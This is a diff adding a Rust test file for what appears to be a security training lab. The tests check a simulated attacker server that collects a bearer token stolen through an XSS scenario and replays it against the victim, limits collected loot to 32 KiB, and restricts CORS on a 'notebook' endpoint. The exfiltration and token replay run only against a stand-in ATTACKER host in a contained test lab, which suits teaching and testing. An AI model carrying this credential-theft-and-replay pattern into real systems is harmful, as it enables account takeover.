@@ -1,0 +1,60 @@
+//! What the attacker's server takes, and how it uses it.
+
+use super::support::{ATTACKER, TestLab};
+use serde_json::{Value, json};
+
+async fn send(lab: &TestLab, id: &str, message: &Value) -> u16 {
+    let request = lab.request(ATTACKER, "POST", &format!("/{id}/collect")).body(message.to_string());
+    request.send().await.unwrap().status().as_u16()
+}
+
+fn loot(value: &str) -> Value {
+    json!({ "loot": { "credential": "bearer", "value": value } })
+}
+
+#[tokio::test]
+async fn what_arrives_is_used_against_the_victim_from_the_attackers_own_server() {
+    let lab = TestLab::new().await;
+    let id = lab.begin("local-storage", "xss-reads", &[]).await;
+    let token = lab.token(&id).await;
+    assert_eq!(send(&lab, &id, &loot(&token)).await, 204);
+    let replay = loop {
+        let standing = lab.standing(&id).await;
+        if let Some(replay) = standing["evidence"]["loot"][0]["replays"].get(0) {
+            break replay.clone();
+        }
+        tokio::task::yield_now().await;
+    };
+    assert_eq!(replay["status"], 200, "{replay}");
+    assert!(replay["body"].as_str().unwrap().contains("alice"), "{replay}");
+    let standing = lab.standing(&id).await;
+    let request = standing["evidence"]["requests"].as_array().unwrap().last().unwrap().clone();
+    assert_eq!((&request["deed"], &request["site"]), (&json!("who"), &json!("unsaid")), "{request}");
+}
+
+#[tokio::test]
+async fn a_run_holds_32_kib_of_loot_and_no_more() {
+    let lab = TestLab::new().await;
+    let id = lab.begin("local-storage", "xss-reads", &[]).await;
+    let half = "x".repeat(16 * 1024);
+    assert_eq!(send(&lab, &id, &loot(&half)).await, 204);
+    assert_eq!(send(&lab, &id, &loot(&half)).await, 204);
+    assert_eq!(send(&lab, &id, &loot("x")).await, 413);
+    let other = lab.begin("local-storage", "xss-reads", &[]).await;
+    assert_eq!(send(&lab, &other, &loot(&"x".repeat(32 * 1024 + 1))).await, 413);
+    assert_eq!(send(&lab, &other, &loot(&"x".repeat(128 * 1024))).await, 413);
+}
+
+#[tokio::test]
+async fn the_notebook_is_for_the_control_room_alone() {
+    let lab = TestLab::new().await;
+    let id = lab.open().await;
+    let granted = async |origin: &str| {
+        let request = lab.request(ATTACKER, "GET", &format!("/{id}/notebook")).header("origin", origin);
+        let answer = request.send().await.unwrap();
+        answer.headers().get("access-control-allow-origin").map(|value| value.to_str().unwrap().to_owned())
+    };
+    let control = lab.sites[0].0.clone();
+    assert_eq!(granted(&control).await.as_deref(), Some(&*control));
+    assert_eq!(granted("http://localhost:3000").await, None);
+}
